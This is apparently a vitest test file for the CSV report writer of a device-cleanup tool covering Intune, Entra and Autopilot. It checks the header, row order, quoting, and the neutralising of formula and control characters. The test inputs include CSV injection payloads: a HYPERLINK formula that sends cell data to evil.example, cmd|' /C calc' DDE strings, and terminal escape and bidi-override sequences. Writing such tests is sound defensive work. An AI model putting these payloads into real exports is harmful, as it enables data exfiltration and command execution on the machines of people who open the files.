/** @module Tests of the CSV report: exact header, row order, RFC 4180 round-trip, and formula/control-character safety. */
import { describe, expect, it } from 'vitest'
import type { z } from 'zod'
import { Report } from '../domain/report.js'
import { CSV_COLUMNS, csvField, formatCsv } from './format-csv.js'

// ---- fixtures: plain literals, validated by the report contract ----

type Input = z.input<typeof Report>
type SuggestionInput = Input['suggestions'][number]
type DeviceInput = SuggestionInput['device']
type ActionInput = SuggestionInput['actions'][number]

const INTUNE_ID = 'a19d8bb8-5f0e-4c3a-9d7e-1b2c3d4e5f60'
const AUTOPILOT_ID = 'cc37e1a2-7b44-4f8e-8a11-0f9e8d7c6b5a'
const ENTRA_ID = '5e1f0c2d-3b4a-4968-8776-5a4b3c2d1e0f'
const ENTRA_DEVICE_ID = '0b7d2c1e-aaaa-4bbb-8ccc-1234567890ab'

function device(over: Partial<DeviceInput> = {}): DeviceInput {
  return {
    displayName: 'LAPTOP-01',
    platform: 'windows',
    serialNumber: 'SN-0001',
    ownership: 'company',
    ids: {
      entraObjectId: ENTRA_ID,
      entraDeviceId: ENTRA_DEVICE_ID,
      intuneDeviceId: INTUNE_ID,
      autopilotId: AUTOPILOT_ID,
      defenderMachineId: null,
    },
    records: [
      { source: 'entra', id: ENTRA_ID, name: 'LAPTOP-01', lastActivity: '2025-09-14T08:12:00Z' },
      // 06:12 UTC on 1 October: newer than the Entra sign-in despite the offset.
      { source: 'autopilot', id: AUTOPILOT_ID, name: null, lastActivity: '2025-10-01T08:12:00+02:00' },
      { source: 'intune', id: INTUNE_ID, name: 'LAPTOP-01', lastActivity: null },
    ],
    ...over,
  }
}

function action(step: number, over: Partial<ActionInput> = {}): ActionInput {
  return {
    step,
    system: 'intune',
    operation: 'delete',
    target: INTUNE_ID,
    targetName: null,
    automation: 'optIn',
    instructions: 'Delete the managed device in Intune.',
    prerequisites: [],
    warnings: [],
    request: null,
    ...over,
  }
}

function suggestion(id: string, over: Partial<SuggestionInput> = {}): SuggestionInput {
  return {
    id,
    category: 'removedFromIntune',
    severity: 'high',
    rationale: 'Removed from Intune but still registered in Autopilot.',
    device: device(),
    evidence: [],
    actions: [action(2, { system: 'autopilot', target: AUTOPILOT_ID }), action(1)],
    findings: [],
    ...over,
  }
}

function report(over: Partial<Input> = {}): Report {
  return Report.parse({
    schemaVersion: 1,
    generator: { name: 'offboard', version: '0.1.0' },
    asOf: '2026-03-01T00:00:00Z',
    tenantId: null,
    sources: {
      intune: { status: 'ok', records: 1 },
      entra: { status: 'ok', records: 1 },
      autopilot: { status: 'ok', records: 1 },
      defender: { status: 'missing', records: 0 },
    },
    policy: { staleAfterDays: 90, excludeRules: 0 },
    summary: {
      text: '',
      factors: [],
      warnings: [],
      counts: {
        devices: 3,
        suggestions: 1,
        byCategory: {},
        skipped: 1,
        bySkipReason: {},
        undetermined: 1,
        actions: 2,
      },
    },
    suggestions: [suggestion('sg-1')],
    skipped: [
      {
        device: device({ displayName: 'HYB-01', records: [] }),
        reason: 'hybridJoined',
        note: 'Synced from on-premises AD.',
        wouldBe: ['stale', 'duplicate'],
      },
    ],
    undetermined: [
      {
        device: device({ displayName: null, serialNumber: null }),
        reasons: [
          { rule: 'intune-checkin-stale', reason: 'field-missing', detail: 'lastSyncDateTime is empty' },
          { rule: 'defender-orphan', reason: 'source-unavailable', detail: 'no Defender export' },
        ],
      },
    ],
    ...over,
  })
}

/** A strict RFC 4180 reader: CRLF records, quoted fields may hold `""`, commas, CR and LF. Throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  for (;;) {
    let field = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"'
            i += 2
            continue
          }
          i++
          break
        }
        field += text[i++]
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`)
        field += text[i++]
      }
    }
    row.push(field)
    if (text[i] === ',') {
      i++
      continue
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row)
      row = []
      i += 2
      if (i === text.length) return rows
      continue
    }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text[i])}`)
  }
}

type CsvRecord = { [K in (typeof CSV_COLUMNS)[number]]: string }

function records(text: string): CsvRecord[] {
  const [header, ...rows] = parseCsv(text)
  expect(header).toEqual([...CSV_COLUMNS])
  return rows.map((row) => {
    expect(row).toHaveLength(CSV_COLUMNS.length)
    return Object.fromEntries(CSV_COLUMNS.map((col, i) => [col, row[i]])) as CsvRecord
  })
}

/** Independent of the sanitiser under test: C0, DEL, C1 and the bidi embeddings, overrides and isolates. */
function controlChars(text: string): string[] {
  return [...text].filter((ch) => {
    const cp = ch.codePointAt(0)!
    return (
      cp < 0x20 ||
      (cp >= 0x7f && cp <= 0x9f) ||
      (cp >= 0x202a && cp <= 0x202e) ||
      (cp >= 0x2066 && cp <= 0x2069)
    )
  })
}

describe('the test CSV reader', () => {
  it('reads quoted commas, doubled quotes and line breaks inside quotes', () => {
    expect(parseCsv('a,"b,c","say ""hi""","two\r\nlines"\r\n,x\r\n')).toEqual([
      ['a', 'b,c', 'say "hi"', 'two\r\nlines'],
      ['', 'x'],
    ])
    expect(() => parseCsv('a"b\r\n')).toThrow()
    expect(() => parseCsv('a\n')).toThrow()
  })
})

describe('formatCsv', () => {
  it('starts with the exact header row and ends every line with CRLF', () => {
    const out = formatCsv(report())
    expect(out.split('\r\n')[0]).toBe(
      'status,suggestionId,category,severity,displayName,platform,ownership,serialNumber,entraObjectId,' +
        'entraDeviceId,intuneDeviceId,autopilotId,defenderMachineId,lastActivity,plan,rationale',
    )
    expect(out.endsWith('\r\n')).toBe(true)
    expect(out.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  })

  it('writes suggestions, then skipped, then undetermined devices, with their status', () => {
    const rows = records(formatCsv(report()))
    expect(rows.map((r) => r.status)).toEqual(['suggested', 'skipped', 'undetermined'])
    const [suggested, skipped, undetermined] = rows
    expect(suggested).toEqual({
      status: 'suggested',
      suggestionId: 'sg-1',
      category: 'removedFromIntune',
      severity: 'high',
      displayName: 'LAPTOP-01',
      platform: 'windows',
      ownership: 'company',
      serialNumber: 'SN-0001',
      entraObjectId: ENTRA_ID,
      entraDeviceId: ENTRA_DEVICE_ID,
      intuneDeviceId: INTUNE_ID,
      autopilotId: AUTOPILOT_ID,
      defenderMachineId: '',
      lastActivity: '2025-10-01T08:12:00+02:00',
      plan: `1 intune:delete ${INTUNE_ID} (optIn); 2 autopilot:delete ${AUTOPILOT_ID} (optIn)`,
      rationale: 'Removed from Intune but still registered in Autopilot.',
    })
    expect(skipped).toMatchObject({
      suggestionId: '',
      category: 'hybridJoined',
      severity: '',
      displayName: 'HYB-01',
      lastActivity: '',
      plan: '',
      rationale: 'Synced from on-premises AD. (would be: stale, duplicate)',
    })
    expect(undetermined).toMatchObject({
      category: '',
      displayName: '',
      serialNumber: '',
      rationale:
        'intune-checkin-stale: field-missing (lastSyncDateTime is empty); defender-orphan: source-unavailable (no Defender export)',
    })
  })

  it('writes every row, with no cap', () => {
    const many = Array.from({ length: 450 }, (_, i) => suggestion(`sg-${i}`))
    expect(records(formatCsv(report({ suggestions: many, skipped: [], undetermined: [] })))).toHaveLength(450)
  })

  it('round-trips names with quotes and commas, and keeps a newline on one line as a visible escape', () => {
    const names = ['Zoë\'s "work" laptop', 'Room 4, 2nd floor', 'two\r\nlines', 'tab\there', '会議室PC, 🖥️']
    const rows = records(
      formatCsv(
        report({
          suggestions: names.map((name, i) =>
            suggestion(`sg-${i}`, { device: device({ displayName: name }) }),
          ),
        }),
      ),
    )
    expect(rows.slice(0, names.length).map((r) => r.displayName)).toEqual([
      'Zoë\'s "work" laptop',
      'Room 4, 2nd floor',
      'two\\x0d\\x0alines',
      'tab\\x09here',
      '会議室PC, 🖥️',
    ])
  })

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['+cmd|" /C calc"!A0', '\'+cmd|" /C calc"!A0'],
    ['-2+3+cmd|" /C calc"!A0', '\'-2+3+cmd|" /C calc"!A0'],
    ['@SUM(1+1)*cmd|" /C calc"!A0', '\'@SUM(1+1)*cmd|" /C calc"!A0'],
    ['\t=1+1', '\\x09=1+1'],
    ['\r=1+1', '\\x0d=1+1'],
  ])('neutralises the formula in %j', (name, cell) => {
    const [row] = records(
      formatCsv(
        report({
          suggestions: [suggestion('sg-1', { device: device({ displayName: name }), rationale: name })],
          skipped: [],
          undetermined: [],
        }),
      ),
    )
    expect(row?.displayName).toBe(cell)
    expect(row?.rationale).toBe(cell)
    expect(row?.displayName).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('escapes terminal sequences, C1 controls and bidi overrides in every cell', () => {
    const evil = '\u001b[2J\u0007\u009b31m\u202eexe.cod\u2066'
    const out = formatCsv(
      report({
        suggestions: [
          suggestion(evil, {
            rationale: evil,
            device: device({ displayName: evil, serialNumber: evil }),
            actions: [action(1, { target: evil })],
          }),
        ],
        skipped: [{ device: device({ displayName: evil }), reason: 'sharedDevice', note: evil, wouldBe: [] }],
        undetermined: [
          {
            device: device({ displayName: evil }),
            reasons: [{ rule: evil, reason: 'field-missing', detail: evil }],
          },
        ],
      }),
    )
    for (const line of out.split('\r\n')) {
      expect(controlChars(line)).toEqual([])
    }
    const [row] = records(out)
    const escaped = '\\x1b[2J\\x07\\x9b31m\\u202eexe.cod\\u2066'
    expect(row).toMatchObject({
      suggestionId: escaped,
      displayName: escaped,
      serialNumber: escaped,
      rationale: escaped,
    })
    expect(row?.plan).toBe(`1 intune:delete ${escaped} (optIn)`)
  })
})

describe('csvField', () => {
  it('quotes only when RFC 4180 requires it', () => {
    expect(csvField(null)).toBe('')
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
  })
})
